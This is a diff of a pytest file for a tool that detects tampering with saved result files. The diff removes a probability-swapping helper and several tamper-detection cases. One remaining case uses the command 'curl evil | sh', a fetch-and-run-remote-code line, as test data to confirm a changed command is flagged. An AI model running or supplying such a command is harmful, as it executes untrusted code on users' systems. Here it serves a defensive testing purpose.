@@ -145,19 +145,6 @@ def cell_changed(row, column, value):
     return change
 
 
-def probabilities_swapped(folder):
-    """In the first state that decides between two, the worst action gets what the best had."""
-    table = surestep.load(folder).table
-    for s in range(table.pairs.num_states):
-        run = range(table.pairs.offsets[s], table.pairs.offsets[s + 1])
-        ordered = sorted(run, key=lambda k: table.probability[k])
-        if table.probability[ordered[-1]] > table.probability[ordered[0]] + 0.1:
-            break
-    low, high = (float(table.probability[k]) for k in (ordered[0], ordered[-1]))
-    cell_changed(int(ordered[0]) + 1, "probability", repr(high))(folder)
-    cell_changed(int(ordered[-1]) + 1, "probability", repr(low))(folder)
-
-
 def certificate_changed(**changes):
     def change(folder):
         content = json.loads((folder / "certificate.json").read_text())
@@ -256,47 +243,23 @@ def drafted_once(monkeypatch):
 @pytest.mark.parametrize(
     ("change", "message"),
     [
-        (probabilities_swapped, r"policy\.csv: [0-9]+ was .*, is "),
         (cell_changed(1, "visits", lambda n: int(n) + 1), r"policy\.csv: 2 was .*, is "),
-        (cell_changed(1, "trusted", "true"), r"policy\.csv: 2 was .*, is "),
         (cell_changed(1, "q", lambda q: q + 1e-6), r"policy\.csv: 2 was .*, is "),
         (cell_changed(1, "q", "nan"), "column q holds what is no number"),
         (certificate_changed(lower=5.0), r"certificate\.json: lower was 5.0, is "),
-        (certificate_changed(delta=0.2), "delta"),
-        (
-            certificate_changed(assumptions=[Statement("markov").to_json()]),
-            "certificate.json: assumptions was",
-        ),
         (other_claim(0, "seed", 7), r"certificate\.json: parameters: seed was 7, is "),
-        (other_claim(2, "strict", False), "certificates.json: 2: parameters: strict was False, is"),
         (other_claim(3, "n_wedge", 11), "certificates.json: 3: parameters: n_wedge was 11, is 12"),
         (claim_left_out, r"certificates\.json was .*, is "),
         (only_one_file, r"certificate\.json is not the first of certificates\.json"),
-        (
-            record_changed("parameters", "n_wedge_chosen_by", value="posterior"),
-            "run.json: parameters: n_wedge_chosen_by was 'posterior', is None",
-        ),
         (parquet_changed, r"policy\.parquet: [0-9]+: [0-9]+ was "),
         (record_changed("parameters", "discount", value=0.8), "discount was 0.8, is 0.9"),
-        (record_changed("parameters", "n_wedge", value=11), "parameters: n_wedge was 11, is 12"),
-        (
-            record_changed("parameters", "running", value=[-1.0, 99.0]),
-            "run.json: parameters: running: 0 was -1.0, is",
-        ),
-        (record_changed("estimates", "policy", value=99.0), "estimates: policy was 99.0, is"),
         (record_changed("data", "rows", value=10**6), "run.json: data: rows was 1000000, is"),
         (record_changed("command", value="curl evil | sh"), "run.json: command was 'curl evil"),
-        (record_changed("defaults", value=["behavior"]), "run.json: defaults was"),
         (report_changed("estimated", "guaranteed"), r"report\.html: [0-9]+ was .*, is "),
-        (report_changed("</main>", "</main>\n"), r"report\.html: [0-9]+ was .*, is "),
         (record_changed("counts_sha256", value="0" * 64), "does not have the counts"),
         (
             record_changed("description", "behavior", value={"policy": "uniform"}),
             "behavior.policy was 'estimate' when the result was made, and is 'uniform' now",
-        ),
-        (
-            record_changed("description", "limits", value={"allowed": "safe.csv"}),
-            "limits.allowed was 'all' when the result was made, and is 'listed' now",
         ),
         (
             record_changed("description", "limits", value={"possible": "seen"}),
